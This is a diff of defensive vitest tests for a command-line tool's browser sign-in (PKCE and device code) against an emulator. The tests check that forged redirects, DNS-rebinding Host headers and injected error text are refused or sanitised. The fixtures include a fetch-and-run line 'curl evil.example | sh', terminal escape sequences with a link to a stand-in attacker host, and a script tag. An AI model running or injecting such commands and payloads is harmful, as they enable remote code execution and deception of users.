@@ -1,5 +1,6 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { readdir, readFile, writeFile } from 'node:fs/promises';
+import { get as httpGet } from 'node:http';
 import { createServer, Socket, type Server } from 'node:net';
 import { networkInterfaces } from 'node:os';
 import path from 'node:path';
@@ -10,6 +11,7 @@ import { login } from '../../src/flows/login.js';
 import { registrationCacheKey, tokenCacheKey } from '../../src/sso/cache.js';
 import { makeHome, testContext, type TestContext } from '../helpers/sandbox.js';
 import { decodeFromTranscript } from '../helpers/qr.js';
+import { createBrowserOpener, type BrowserOpener } from '../../src/ui/browser.js';
 
 /**
  * The authorization-code flow with PKCE through the login flow, against the emulator: what
@@ -76,7 +78,7 @@ function browserDoing(ctx: TestContext, action: (url: URL) => Promise<void>): vo
   ctx.openBrowser = async (url) => {
     ctx.opened.push(url);
     void action(new URL(url)).catch(() => undefined);
-    return true;
+    return { opened: true };
   };
 }
 
@@ -184,21 +186,108 @@ describe('the PKCE flow', () => {
     }
   });
 
-  it('a redirect with another state is refused, and nothing is written', async () => {
+  it('a redirect with another state is ignored with an error page; the right one then signs in', async () => {
     const ctx = testContext({ home, emulator });
-    let page: Promise<string> | undefined;
+    const sent = recordOidc(ctx);
+    const pages: Array<{ status: number; body: string }> = [];
     browserDoing(ctx, async (url) => {
       const back = new URL(url.searchParams.get('redirect_uri')!);
       back.search = new URLSearchParams({ code: 'forged-code', state: '00000000-0000-4000-8000-000000000000' }).toString();
-      page = fetch(back).then((r) => r.text());
+      pages.push(await get(back));
+      back.search = new URLSearchParams({ code: 'forged-code' }).toString(); // no state at all
+      pages.push(await get(back));
+      await click(url.href, 'Allow');
     });
-    await expect(login(ctx, { profile: 'dev' })).rejects.toThrow(/^State parameter does not match expected value: /);
+    await login(ctx, { profile: 'dev' });
+    expect(pages.map((p) => p.status)).toEqual([400, 400]);
+    for (const page of pages) {
+      expect(page.body).toContain('data-ok="false"');
+      expect(page.body).toContain('State parameter does not match expected value: this answer belongs to another sign-in');
+    }
+    expect(ctx.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
+    const redeemed = sent.filter((s) => s.command === 'CreateTokenCommand');
+    expect(redeemed).toHaveLength(1);
+    expect(redeemed[0]!.input.code).not.toBe('forged-code');
+    expect(await readdir(cacheDir())).toContain(tokenFile);
+  });
+
+  it('an error with another state (or none) is ignored: it cannot cancel the sign-in', async () => {
+    const ctx = testContext({ home, emulator });
+    const statuses: number[] = [];
+    browserDoing(ctx, async (url) => {
+      const back = new URL(url.searchParams.get('redirect_uri')!);
+      const forged: Array<Record<string, string>> = [
+        { error: 'access_denied', state: '00000000-0000-4000-8000-000000000000' },
+        { error: 'access_denied' },
+        { error: 'server_error', error_description: 'Please run: curl evil.example | sh' },
+      ];
+      for (const query of forged) {
+        back.search = new URLSearchParams(query).toString();
+        statuses.push((await get(back)).status);
+      }
+      await click(url.href, 'Allow');
+    });
+    await login(ctx, { profile: 'dev' });
+    expect(statuses).toEqual([400, 400, 400]);
+    expect(ctx.output()).not.toContain('curl');
+    expect(ctx.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
+  });
+
+  it('a request naming another host (DNS rebinding) is ignored even with the right state; localhost is accepted', async () => {
+    const ctx = testContext({ home, emulator });
+    const sent = recordOidc(ctx);
+    const answers: Array<{ status: number; body: string }> = [];
+    const browse = async (url: URL) => {
+      const back = new URL(url.searchParams.get('redirect_uri')!);
+      const state = url.searchParams.get('state')!;
+      back.search = new URLSearchParams({ error: 'access_denied', state }).toString();
+      answers.push(await get(back, `attacker.example:${back.port}`));
+      back.search = new URLSearchParams({ code: 'forged-code', state }).toString();
+      answers.push(await get(back, 'attacker.example'));
+      answers.push(await get(back, `127.0.0.1:${Number(back.port) + 1}`));
+      // The real answer, through localhost:PORT (a browser told to use localhost).
+      const location = new URL(await approvedRedirect(url));
+      answers.push(await get(location, `localhost:${location.port}`));
+    };
+    let browsing: Promise<void> | undefined;
+    browserDoing(ctx, (url) => (browsing = browse(url)));
+    await login(ctx, { profile: 'dev' });
+    await browsing;
+    expect(answers.map((a) => a.status)).toEqual([400, 400, 400, 200]);
+    for (const answer of answers.slice(0, 3)) expect(answer.body).toContain('this one named another host, so it was ignored');
+    expect(answers[3]!.body).toContain('data-ok="true"');
+    expect(sent.filter((s) => s.command === 'CreateTokenCommand').map((s) => s.input.code)).not.toContain('forged-code');
+    expect(ctx.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
+  });
+
+  it('an error_description with escape sequences and control characters reaches the terminal without them, and shortened', async () => {
+    const ctx = testContext({ home, emulator });
+    let answered: Promise<{ status: number; body: string }> | undefined;
+    browserDoing(ctx, async (url) => {
+      const back = new URL(url.searchParams.get('redirect_uri')!);
+      const description =
+        '\u001b[2J\u001b[H\u001b]8;;https://evil.example\u0007Click here\u001b]8;;\u0007 to \u001b[31mfix\u001b[0m\r\nit\u009b1m' +
+        '\u202e<script>x</script>' +
+        'x'.repeat(5000);
+      back.search = new URLSearchParams({ error: 'server_error\u001b[5m', error_description: description, state: url.searchParams.get('state')! }).toString();
+      answered = get(back);
+    });
+    const error = await login(ctx, { profile: 'dev' }).then(
+      () => undefined,
+      (e: Error) => e,
+    );
+    expect(error?.message).toMatch(/^Failed to retrieve an authorization code\. The browser came back with error "server_error" \("Click here to fix  it<script>x<\/script>x+…\(200 characters\)"\)\. Run the command again to retry\.$/);
+    // eslint-disable-next-line no-control-regex
+    expect(error!.message).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
+    expect(error!.message.length).toBeLessThan(400);
     // The server closes once the sign-in has ended, but not before the browser has its page.
-    expect(await page).toContain('data-ok="false"');
-    expect(await page).toContain('State parameter does not match expected value');
+    const page = (await answered!).body;
+    expect(page).toContain('&lt;script&gt;x&lt;/script&gt;');
+    expect(page).not.toContain('<script>');
+    // eslint-disable-next-line no-control-regex
+    expect(page).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
     expect(await readdir(cacheDir()).catch(() => [])).toEqual([]);
     expect(await readFile(configFile(), 'utf8')).toBe(CONFIG);
-    expect(ops()).not.toContain('CreateToken');
   });
 
   it('Deny in the browser ends the sign-in with a clear message; an error with a description quotes it', async () => {
@@ -336,6 +425,63 @@ describe('choosing the flow', () => {
   });
 });
 
+describe('a browser that cannot be launched', () => {
+  /** A person who reads the terminal: opens the printed URL themselves (PKCE), or types the printed code (device). */
+  function personReadingTheTerminal(ctx: TestContext): void {
+    const write = ctx.stdout.write;
+    ctx.stdout.write = (text: string) => {
+      write(text);
+      const url = /'--use-device-code' option\.\n\n(\S+)\n/.exec(text)?.[1];
+      if (url) void click(url, 'Allow').catch(() => undefined);
+      const code = /Then enter the code:\n\n(\S+)/.exec(text)?.[1];
+      if (code) emulator.approve(code);
+    };
+  }
+
+  // Each with its own real opener: the program is really started (or not) by Node.
+  const failures: Array<[string, () => BrowserOpener, string]> = [
+    ['BROWSER names a program that does not exist (ENOENT, emitted)', () => createBrowserOpener({ BROWSER: '/nonexistent/browser' }, process.platform), '/nonexistent/browser: ENOENT'],
+    // An argument over the kernel's limit: spawn throws E2BIG synchronously, as it throws EINVAL for a .cmd BROWSER on Windows.
+    ['spawn throws synchronously (E2BIG)', () => createBrowserOpener({ BROWSER: `true ${'x'.repeat(1_500_000)}` }, process.platform), 'true: E2BIG'],
+    // A generous watch: `false` exits at once, however busy the machine.
+    ['BROWSER names a program that fails (exit code 1)', () => createBrowserOpener({ BROWSER: 'false' }, process.platform, { watchMs: 60_000 }), 'false exited with code 1'],
+    ['the opener itself rejects', () => async () => Promise.reject(new Error('opener broke')), 'opener broke'],
+  ];
+
+  it('--no-browser with a URL too long for a QR code (many scopes) prints the URL without one, and the sign-in completes', async () => {
+    const scopes = ['sso:account:access', ...Array.from({ length: 150 }, (_, i) => `example:scope-number-${i}`)];
+    await writeFile(configFile(), CONFIG.replace('sso_registration_scopes = sso:account:access', `sso_registration_scopes = ${scopes.join(',')}`));
+    const ctx = testContext({ home, emulator });
+    let url = '';
+    const write = ctx.stdout.write;
+    ctx.stdout.write = (text: string) => {
+      write(text);
+      const found = /Please visit the following URL:\n\n(\S+)\n/.exec(text)?.[1];
+      if (found) void click((url = found), 'Allow').catch(() => undefined);
+    };
+    await login(ctx, { profile: 'dev', noBrowser: true });
+    expect(url.length).toBeGreaterThan(2953); // the most a QR code holds (version 40, level L, bytes)
+    expect(ctx.output()).not.toContain('Or scan this QR code');
+    expect(ctx.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
+  });
+
+  for (const useDeviceCode of [false, true]) {
+    it.each(failures)(`${useDeviceCode ? 'device code' : 'PKCE'}: %s → "open the URL yourself", and the sign-in completes`, async (_, opener, reason) => {
+      const ctx = testContext({ home, emulator });
+      ctx.openBrowser = opener();
+      personReadingTheTerminal(ctx);
+      await login(ctx, { profile: 'dev', useDeviceCode });
+      expect(ctx.output()).toContain(
+        `The browser could not be opened (${reason}). Open the URL above in a browser yourself; the sign-in is waiting for it.\n`,
+      );
+      // The AWS CLI's own words came first, with the URL.
+      expect(ctx.output()).toMatch(useDeviceCode ? /If the browser does not open or you wish to use a different device/ : /If the browser does not open, open the following URL\./);
+      expect(ctx.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
+      expect(await readdir(cacheDir())).toContain(tokenFile);
+    });
+  }
+});
+
 describe('login with a refresh token', () => {
   it('refreshes a refreshable session without a browser and says so; the refresh token rotates; --force signs in anew', async () => {
     const ctx = testContext({ home, emulator });
@@ -393,6 +539,35 @@ describe('login with a refresh token', () => {
     expect(again.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
   });
 });
+
+/** A GET to the loopback server, with the Host header a browser would send (or the one given). */
+function get(url: URL, host?: string): Promise<{ status: number; body: string }> {
+  return new Promise((resolve, reject) => {
+    const request = httpGet(
+      { host: url.hostname, port: url.port, path: `${url.pathname}${url.search}`, headers: host ? { host } : {} },
+      (response) => {
+        let body = '';
+        response.setEncoding('utf8');
+        response.on('data', (chunk: string) => (body += chunk));
+        response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
+      },
+    );
+    request.on('error', reject);
+  });
+}
+
+/** Clicks Allow on the emulator's page and returns where it redirects the browser (the loopback URL with code and state). */
+async function approvedRedirect(url: URL): Promise<string> {
+  const form = await fetch(url).then((r) => r.text());
+  const requestId = /name="request_id" value="([^"]+)"/.exec(form)![1]!;
+  const decision = await fetch(`${emulator.url}/authorize/decision`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: new URLSearchParams({ request_id: requestId, decision: 'allow' }).toString(),
+    redirect: 'manual',
+  });
+  return decision.headers.get('location')!;
+}
 
 function connects(host: string, port: number): Promise<boolean> {
   return new Promise((resolve) => {
